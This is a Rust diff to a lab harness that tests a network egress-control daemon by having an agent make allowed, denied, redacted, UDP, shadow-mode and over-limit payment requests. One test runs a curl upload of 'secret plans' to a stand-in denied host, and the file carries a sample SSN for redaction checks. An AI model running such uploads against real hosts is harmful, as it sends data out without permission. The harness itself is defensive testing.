@@ -7,7 +7,7 @@ use serde_json::{Value, json};
 
 use super::{AGENT, Attempt};
 use crate::lab::wiring::address;
-use crate::lab::{Daemon, Lab, Outcome};
+use crate::lab::{AgentCommand, Answer, Daemon, Lab, Outcome};
 
 const SSN: &str = "536-22-8741";
 const MAIL: &str = "jane.doe@example.com";
@@ -25,60 +25,15 @@ pub(super) fn all(lab: &Lab, daemon: &Daemon) -> Result<Vec<Attempt>> {
     ])
 }
 
-/// An HTTP answer as curl prints it with `-w`.
-struct Answer {
-    status: String,
-    content_type: String,
-    body: String,
+/// The demo's agent, an ordinary user of the system.
+fn agent(lab: &Lab) -> AgentCommand<'_> {
+    lab.agent(AGENT).user("nobody")
 }
 
 fn curl(lab: &Lab, arguments: &[&str]) -> Result<Answer> {
-    let mut command = vec![
-        "curl",
-        "-sS",
-        "--max-time",
-        "15",
-        "-w",
-        "\n%{http_code} %{content_type}",
-    ];
-    command.extend(arguments);
-    let outcome = lab.agent(AGENT).run(&command)?;
+    let answer = agent(lab).curl(arguments)?;
     lab.settle()?;
-    let (body, last) = outcome.stdout.rsplit_once('\n').unwrap_or(("", ""));
-    let (status, content_type) = last.split_once(' ').unwrap_or((last, ""));
-    let body = if outcome.ok() {
-        body.to_owned()
-    } else {
-        format!("{body}{}", outcome.stderr)
-    };
-    Ok(Answer {
-        status: status.to_owned(),
-        content_type: content_type.to_owned(),
-        body,
-    })
-}
-
-impl Answer {
-    fn problem(&self) -> Value {
-        serde_json::from_str(&self.body).unwrap_or(Value::Null)
-    }
-
-    fn is_denial(&self) -> bool {
-        self.status == "403" && self.content_type.starts_with("application/problem+json")
-    }
-
-    fn summary(&self) -> String {
-        match self.problem() {
-            Value::Object(problem) => {
-                let reason = problem
-                    .get("reason")
-                    .and_then(Value::as_str)
-                    .unwrap_or_default();
-                format!("{} {}: {reason}", self.status, self.content_type)
-            }
-            _ => format!("{} {}", self.status, self.body.trim()),
-        }
-    }
+    Ok(answer)
 }
 
 /// Packets that went to an address, whatever they carried.
@@ -94,7 +49,7 @@ fn packets_to(lab: &Lab, host: &str) -> usize {
 fn allowed(lab: &Lab) -> Result<Attempt> {
     let answer = curl(lab, &["https://api.allowed.test/hello"])?;
     let seen = lab.internet.requests.at("api.allowed.test");
-    let kept = answer.status == "200"
+    let kept = answer.status == 200
         && answer.body.starts_with("hello from api.allowed.test")
         && seen.len() == 1;
     let outside = seen.first().map_or("nothing".to_owned(), |request| {
@@ -132,7 +87,7 @@ fn denied_host(lab: &Lab) -> Result<Attempt> {
         ],
     )?;
     let packets = packets_to(lab, "denied.test");
-    let kept = answer.is_denial() && answer.problem().get("decision_id").is_some() && packets == 0;
+    let kept = answer.is_denial() && !answer.field("decision_id").is_empty() && packets == 0;
     Ok(Attempt {
         tried: "curl https://denied.test/upload -d 'secret plans'  (its own address for it)"
             .to_owned(),
@@ -151,7 +106,7 @@ fn redacted(lab: &Lab) -> Result<Attempt> {
          answer = urllib.request.urlopen(request, timeout=15)\n\
          print(answer.status)"
     );
-    let outcome = lab.agent(AGENT).python(&program)?;
+    let outcome = agent(lab).python(&program)?;
     let seen = lab
         .internet
         .requests
@@ -184,7 +139,7 @@ fn refused_udp(lab: &Lab) -> Result<Attempt> {
         address("api.allowed.test").0,
         address("api.allowed.test").1
     );
-    let outcome = lab.agent(AGENT).python(&program)?;
+    let outcome = agent(lab).python(&program)?;
     lab.settle()?;
     let packets = lab
         .internet
@@ -236,7 +191,7 @@ fn shadowed(lab: &Lab, daemon: &Daemon) -> Result<Attempt> {
         tried: "curl https://shadow.allowed.test/hello  (a rule in shadow mode)".to_owned(),
         got: format!("{}; {would}", answer.summary()),
         outside: format!("origin: {seen} request"),
-        kept: answer.status == "200"
+        kept: answer.status == 200
             && seen == 1
             && field(&record, "decision") == "deny"
             && field(&record, "mode") == "shadow",
@@ -254,11 +209,7 @@ fn approval(lab: &Lab) -> Result<Attempt> {
     ];
     let answer = curl(lab, &headers)?;
     let seen = lab.internet.requests.at("payments.allowed.test").len();
-    let problem = answer.problem();
-    let id = problem
-        .get("approval_id")
-        .and_then(Value::as_str)
-        .unwrap_or_default();
+    let id = answer.field("approval_id");
     Ok(Attempt {
         tried: format!(r#"curl {url} -d '{{"amount": 9000}}'  (the limit is 5000)"#),
         got: format!("{}, approval_id {id}", answer.summary()),
